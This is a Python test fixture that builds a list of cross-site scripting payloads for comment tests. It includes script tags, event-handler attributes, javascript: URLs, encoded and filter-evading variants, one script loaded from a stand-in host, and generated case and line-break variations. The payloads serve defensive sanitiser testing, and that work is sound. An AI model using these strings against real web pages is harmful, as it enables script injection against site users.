"""Hostile input for the comment tests: XSS payloads (written out, then varied) and other bad text."""

# Each one, if it ran, would call alert() or set window.__xss; shown as text, it does nothing.
_WRITTEN = [
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"window.__xss=1\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "javascript:alert(1)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=\"javascript:alert(1)\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<x onclick=alert(1)>click me</x>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "https://example.com/\"onmouseover=\"alert(1)",
    "https://example.com/<script>alert(1)</script>",
    "http://x.example/?q=\"><img src=x onerror=alert(1)>",
    "<a href=\"https://example.com\" onclick=\"alert(1)\">link</a>",
    "<p onmouseover=\"alert(1)\">hover</p>",
    "\u202e<script>alert(1)</script>",
    "<img src=x onerror=alert`1`>",
]
# Variations: the same tricks in other cases, with other event handlers and with payloads on new lines.
_HANDLERS = ["onerror", "onload", "onfocus", "onmouseenter", "onanimationstart", "onpointerover"]
_GENERATED = [f"<img src=x {handler}=alert(1)>" for handler in _HANDLERS[1:]] + [
    f"<{tag} {handler}=\"window.__xss=1\">x</{tag}>" for tag in ("div", "span", "b") for handler in _HANDLERS[:3]
] + [p.upper() for p in _WRITTEN[:6]] + [f"line one\n{p}\nline three" for p in _WRITTEN[:4]]

XSS_PAYLOADS = list(dict.fromkeys(_WRITTEN + _GENERATED))
assert len(XSS_PAYLOADS) >= 50, len(XSS_PAYLOADS)
